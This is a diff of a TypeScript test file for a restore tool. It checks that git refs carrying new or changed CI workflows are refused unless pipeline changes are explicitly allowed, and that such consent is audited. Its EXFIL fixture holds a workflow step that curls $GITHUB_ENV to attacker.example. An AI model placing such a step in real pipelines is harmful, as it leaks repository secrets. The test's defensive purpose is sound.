@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { join } from 'node:path';
 import { CliWorkspace } from '../helpers/cli.js';
-import { sh } from '../helpers/git.js';
+import { refNames, sh } from '../helpers/git.js';
 import { fastImport, initBare } from '../helpers/git-fast.js';
 import { tempDir } from '../helpers/vault.js';
 import { createConsoleHost } from '../../src/host/console/console-host.js';
@@ -11,8 +11,6 @@ import type { ApiName, ApiResult } from '../../src/api/table.js';
 const CI_V0 = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n';
 const CI_V1 = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make check }] } }\n';
 const EXFIL = 'name: exfil\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl -d @$GITHUB_ENV https://attacker.example" }] } }\n';
-
-const refsOf = (repo: string) => sh(repo, 'for-each-ref', '--format=%(refname)').split('\n').filter(Boolean).sort();
 
 /**
  * A restore pushes back commits its snapshot's writer recorded. A hijacked agent records a branch or
@@ -42,19 +40,19 @@ describe('refs pushed back into a live repository carry the snapshot writer\'s p
 
   it('the CLI pushes refs that run what live ran (now or before), and refuses one whose pipeline is new or changed, naming it', async () => {
     await ws.hereOk(ws.operator('restore', 'latest:app', '--target', live, '--ref', 'refs/heads/docs', '--ref', 'refs/heads/legacy'));
-    expect(refsOf(live)).toEqual(['refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main']);
+    expect(refNames(live)).toEqual(['refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main']);
 
     const deploy = await restore('--ref', 'refs/heads/deploy');
     expect(deploy.code).not.toBe(0);
     expect(deploy.stderr).toMatch(/refs\/heads\/deploy RUNS CI: \.github\/workflows\/exfil\.yml \(new\) differs from live main: pushing it to .* runs the pipeline the snapshot's writer recorded, with that repository's secrets; nothing was pushed/);
     const tag = await restore('--ref', 'refs/tags/v9');
     expect(tag.stderr).toMatch(/refs\/tags\/v9 RUNS CI: \.github\/workflows\/ci\.yml \(changed\) differs from live main/);
-    expect(refsOf(live)).toEqual(['refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main']);
+    expect(refNames(live)).toEqual(['refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main']);
 
     const allowed = await restore('--ref', 'refs/heads/deploy', '--ref', 'refs/tags/v9', '--allow-pipeline-changes');
     expect(allowed.code).toBe(0);
     expect(allowed.stdout).toMatch(/refs\/heads\/deploy RUNS CI: .*exfil\.yml \(new\) differs from live main: pushed, as allowed/);
-    expect(refsOf(live)).toEqual(['refs/heads/deploy', 'refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main', 'refs/tags/v9']);
+    expect(refNames(live)).toEqual(['refs/heads/deploy', 'refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main', 'refs/tags/v9']);
   });
 
   it('the console says a plan pushes commits, refuses such a ref unless "Allow pipeline changes" was ticked, and records the consent', async () => {
@@ -81,12 +79,12 @@ describe('refs pushed back into a live repository carry the snapshot writer\'s p
       expect([plan.pushesCommits, plan.confirmWord]).toEqual([true, 'app']);
       const refused = await finished((await ok('restore.start', { planId: plan.planId, confirm: 'app' })).jobId);
       expect(refused.verification).toEqual([{ item: 'app/refs/refs/heads/deploy', ok: false, detail: expect.stringMatching(/^refs\/heads\/deploy RUNS CI: \.github\/workflows\/exfil\.yml \(new\) differs from live main: .*nothing was pushed/) }]);
-      expect(refsOf(live)).not.toContain('refs/heads/deploy');
+      expect(refNames(live)).not.toContain('refs/heads/deploy');
 
       const again = await ok('restore.plan', request);
       const done = await finished((await ok('restore.start', { planId: again.planId, confirm: 'app', allowPipelineChanges: true })).jobId);
       expect(done.status).toBe('done');
-      expect(refsOf(live)).toContain('refs/heads/deploy');
+      expect(refNames(live)).toContain('refs/heads/deploy');
       const audit = await ok('audit.list', {});
       expect(JSON.stringify(audit)).toMatch(/pipeline changes allowed/);
     } finally {
